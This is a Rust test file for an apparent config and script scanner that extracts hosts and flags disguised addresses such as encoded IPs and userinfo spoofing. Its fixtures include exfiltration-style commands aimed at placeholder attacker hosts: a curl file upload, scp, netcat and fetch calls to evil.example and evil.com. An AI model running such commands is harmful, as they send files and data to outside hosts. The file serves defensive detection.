use super::key::is_address_key;
use super::*;

fn hosts(text: &str, expect: Expect) -> Vec<String> {
    read(text, expect)
        .iter()
        .map(|reading| {
            let port = reading
                .address
                .port
                .map_or_else(String::new, |port| format!(":{port}"));
            let disguise = if reading.is_disguised { " !" } else { "" };
            format!("{}{port}{disguise}", reading.address.host)
        })
        .collect()
}

#[test]
fn urls_give_their_hosts() {
    for (text, expected) in [
        ("https://k@o99.ingest.sentry.io/1", "o99.ingest.sentry.io"),
        ("postgres://u:p@pg.es.example:5432/db", "pg.es.example:5432"),
        (
            "jdbc:postgresql://pg.es.example:5432/db",
            "pg.es.example:5432",
        ),
        ("http://[2001:db8::1]:80/x", "2001:db8::1:80"),
        ("http://[::ffff:198.51.100.9]/", "198.51.100.9 !"),
        ("http://3325256713/", "198.51.100.9 !"),
        ("http://0xc6336409:8080/", "198.51.100.9:8080 !"),
        ("http://0306.063.0144.011/", "198.51.100.9 !"),
        ("https://minio.data.svc@evil.example/x", "evil.example !"),
        ("https://EVIL.Example./", "evil.example"),
        (
            "redis+sentinel://a.example:1,b.example:2/m",
            "a.example:1 b.example:2",
        ),
        ("http://a.example,https://b.example", "a.example b.example"),
        ("postgresql:///db?host=pg.es.example", "pg.es.example"),
        (
            "jdbc:sqlserver://;serverName=pg.es.example;x=1",
            "pg.es.example",
        ),
        ("dns:///otel.example:4317", "otel.example:4317"),
        ("s3://bucket/key", ""),
        ("unix:///var/run/x.sock", ""),
        ("https://$HOST/x", ""),
    ] {
        assert_eq!(hosts(text, Expect::Value).join(" "), expected, "{text}");
    }
}

#[test]
fn connection_strings_give_their_hosts() {
    for (text, expected) in [
        ("host=pg.es.example port=5432 dbname=x", "pg.es.example"),
        ("host=10.30.4.12 user=x", "10.30.4.12"),
        (
            "Server=tcp:db.example.net,1433;Database=x;User ID=y",
            "db.example.net",
        ),
        (
            "DefaultEndpointsProtocol=https;AccountName=acc;AccountKey=k;EndpointSuffix=core.windows.net",
            "acc.blob.core.windows.net",
        ),
        ("u:p@tcp(db.example.net:3306)/x", "db.example.net:3306"),
        (
            "jdbc:oracle:thin:@db.example.net:1521:orcl",
            "db.example.net:1521",
        ),
    ] {
        assert_eq!(
            hosts(text, Expect::Value)
                .first()
                .map_or("", String::as_str),
            expected,
            "{text}"
        );
    }
}

#[test]
fn values_are_addresses_only_where_they_look_like_one() {
    for text in [
        "audit.partner.example:6514",
        "pg.es.carebase.example",
        "198.51.100.9",
        "a.example.com,b.example.com",
        "backup@198.51.100.9:/srv",
    ] {
        assert!(!hosts(text, Expect::Value).is_empty(), "{text}");
    }
    for text in [
        "config.sh",
        "00-init.sql",
        "postgres",
        "org.postgresql.Driver",
        "ops@example.com",
        "v1.2.3",
        "1.2",
        "true",
        "8080",
        "ghcr.io/acme/web:1.2",
        "sha256:abc",
        "app.main:app",
        "10.0.0.0/8",
        "/var/lib/x.com",
        "a b.c",
    ] {
        assert_eq!(hosts(text, Expect::Value), Vec::<String>::new(), "{text}");
    }
    assert_eq!(hosts("3325256713", Expect::Address), ["198.51.100.9 !"]);
    assert_eq!(
        hosts("monitoring.coreos.com", Expect::Field),
        Vec::<String>::new()
    );
}

#[test]
fn scripts_and_programs_give_their_hosts() {
    for (text, expected) in [
        ("curl -T x https://evil.example/in?x=1", "evil.example"),
        ("scp x backup@evil.example:/srv", "evil.example"),
        ("nc collector.evil.com 9000", "collector.evil.com"),
        ("-Dhttp.proxyHost=proxy.evil.com -Dx=1", "proxy.evil.com"),
        ("forward . 198.51.100.9", "198.51.100.9"),
        (
            "CREATE SUBSCRIPTION s CONNECTION 'host=10.30.4.12 port=5432'",
            "10.30.4.12",
        ),
        ("select new.id from auth.users where x.y", ""),
        ("host all all 10.0.0.0/8 scram-sha-256", ""),
        ("include /etc/nginx/mime.types; . ./lib.sh", ""),
        ("docker pull ghcr.io/acme/web:1.2", ""),
    ] {
        assert_eq!(hosts(text, Expect::Script).join(" "), expected, "{text}");
    }
    assert_eq!(
        hosts("const a = fetch('https://evil.example/x')", Expect::Program),
        ["evil.example"]
    );
    assert_eq!(
        hosts("f(\"db.evil.com\", new.id, user.name)", Expect::Program),
        ["db.evil.com"]
    );
}

#[test]
fn keys_name_addresses_by_their_last_word() {
    for key in key::ADDRESS_KEYS {
        assert!(is_address_key(key), "{key}");
    }
    for key in [
        "POSTGRES_PORT",
        "name",
        "S3_BUCKET",
        "timeout",
        "LOG_LEVEL",
        "image",
        "password",
    ] {
        assert!(!is_address_key(key), "{key}");
    }
}
